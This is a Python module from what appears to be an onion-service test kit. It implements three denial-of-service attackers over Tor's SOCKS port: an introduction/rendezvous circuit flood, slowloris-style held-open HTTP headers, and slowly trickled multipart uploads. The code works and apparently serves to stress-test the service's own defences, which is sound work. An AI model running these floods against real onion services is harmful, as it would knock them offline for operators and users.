"""Attackers through tor's SOCKS port: an introduction/rendezvous flood, slow heads, slow
bodies (testkit/slowloris.py's attacks, now over Tor).

* :class:`IntroFlood`: ``workers`` threads, each opening a stream with fresh SOCKS
  credentials (so tor builds a new rendezvous circuit and sends a new INTRODUCE1) and
  closing it as soon as it is connected, as fast as it can. An unmodified tor pays the
  PoW effort the descriptor asks for; a modified one sending effort-0 introductions is
  what the service's priority queue is for (not simulated here).
* :class:`SlowHeads`: ``count`` streams that send ``GET / HTTP/1.1\\r\\nHost: `` and no
  more, each reopened when cut; at most ``per_circuit`` streams share a circuit (under
  serve's MaxStreams, which would close the circuit).
* :class:`SlowBodies`: ``count`` uploads that declare ``size`` bytes and trickle them at
  ``rate`` bytes/s; reopened ``pause`` s after an answer or a cut.

All stop on :meth:`stop` or after ``limit`` seconds, whichever comes first.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import threading
import time

from testkit.live_client import FilePart, FormParser, Multipart, pattern, report_fields
from testkit.slowloris import HEAD_PREFIX
from testkit.surge.socks import SocksError, SocksHTTPConnection, open_stream


class _Threads:
    """``workers`` threads running :meth:`_loop` until stopped or ``limit`` s passed."""

    def __init__(self, socks_port: int, address: str, workers: int, limit: float) -> None:
        self.port = socks_port
        self.address = address
        self.workers = workers
        self.limit = limit
        self.opened = 0     # streams tor connected
        self.failed = 0     # streams tor could not connect (SOCKS error or timeout)
        self.cut = 0        # connected streams the far side closed or answered
        self.errors: dict[str, int] = {}
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._end = 0.0
        self._threads = [threading.Thread(target=self._run, args=(i,), daemon=True)
                         for i in range(workers)]

    def __enter__(self) -> _Threads:
        self._end = time.monotonic() + self.limit
        for th in self._threads:
            th.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def stop(self) -> None:
        self._stop.set()
        for th in self._threads:
            th.join(70)

    def running(self) -> bool:
        return not self._stop.is_set() and time.monotonic() < self._end

    def count(self, what: str, why: str = "") -> None:
        with self._lock:
            setattr(self, what, getattr(self, what) + 1)
            if why:
                self.errors[why] = self.errors.get(why, 0) + 1

    def stream(self, user: str, timeout: float = 60) -> socket.socket | None:
        try:
            sock = open_stream(self.port, self.address, 80, user, "x", timeout)
        except SocksError as exc:
            self.count("failed", str(exc))
            return None
        except OSError as exc:
            self.count("failed", type(exc).__name__)
            return None
        self.count("opened")
        return sock

    def _run(self, i: int) -> None:
        while self.running():
            self._loop(i)

    def _loop(self, i: int) -> None:
        raise NotImplementedError


class IntroFlood(_Threads):
    """New circuit, introduction, rendezvous, connect, drop; again."""

    def _loop(self, i: int) -> None:
        sock = self.stream(f"flood-{i}-{os.urandom(6).hex()}", timeout=30)
        if sock is not None:
            sock.close()
        else:
            self._stop.wait(0.2)


class SlowHeads(_Threads):
    def __init__(self, socks_port: int, address: str, count: int, limit: float,
                 per_circuit: int = 4) -> None:
        super().__init__(socks_port, address, count, limit)
        self.per_circuit = per_circuit
        self.sent = 0

    def _loop(self, i: int) -> None:
        sock = self.stream(f"heads-{i // self.per_circuit}", timeout=60)
        if sock is None:
            self._stop.wait(1)
            return
        with sock:
            try:
                sock.sendall(HEAD_PREFIX)
                self.sent += len(HEAD_PREFIX)
                sock.settimeout(1)
                while self.running():
                    try:
                        if not sock.recv(65536):
                            break
                    except TimeoutError:
                        continue
            except OSError:
                pass
        self.count("cut")


class SlowBodies(_Threads):
    def __init__(self, socks_port: int, address: str, count: int, limit: float, *,
                 rate: float = 1434, size: int = 8 << 20, per_circuit: int = 4,
                 pause: float = 0.5) -> None:
        super().__init__(socks_port, address, count, limit)
        self.rate = rate
        self.size = size
        self.per_circuit = per_circuit
        self.pause = pause
        self.sent = 0
        self.answers: dict[int, int] = {}

    def _head(self, user: str) -> tuple[str, list[tuple[str, str]]] | None:
        conn = SocksHTTPConnection(self.port, self.address, user, "x", timeout=60)
        try:
            conn.request("GET", "/en/")
            resp = conn.getresponse()
            parser = FormParser()
            parser.feed(resp.read().decode("utf-8", "replace"))
            return parser.action or "/en/", parser.hidden
        except Exception:  # counted as a failed stream
            self.count("failed", "form")
            return None
        finally:
            conn.close()

    def _loop(self, i: int) -> None:
        user = f"bodies-{i // self.per_circuit}"
        form = self._head(user)
        sock = self.stream(user) if form is not None else None
        if form is None or sock is None:
            self._stop.wait(1)
            return
        body = Multipart(form[1] + report_fields("slow body over tor"),
                         [FilePart("attachments", "big.jpg", self.size,
                                   lambda: pattern(7, self.size), "image/jpeg")])
        head = (f"POST {form[0]} HTTP/1.1\r\nHost: {self.address}\r\n"
                f"Content-Type: {body.content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
                ).encode()
        with sock:
            self._trickle(sock, head, iter(body))
        self._stop.wait(self.pause)

    def _trickle(self, sock: socket.socket, head: bytes, chunks: object) -> None:
        started = time.monotonic()
        pending = b""
        sent = 0
        it = iter(chunks)  # type: ignore[call-overload]
        with contextlib.suppress(OSError, StopIteration):
            sock.sendall(head)
            while self.running():
                if select.select([sock], [], [], 0.5)[0]:
                    reply = sock.recv(65536)
                    if reply.startswith(b"HTTP/1.1 "):
                        status = int(reply[9:12])
                        with self._lock:
                            self.answers[status] = self.answers.get(status, 0) + 1
                    break
                allowed = int((time.monotonic() - started) * self.rate)
                while sent < allowed:
                    if not pending:
                        pending = next(it)
                    n = min(len(pending), allowed - sent)
                    sock.sendall(pending[:n])
                    pending = pending[n:]
                    sent += n
                    self.sent += n
        self.count("cut")
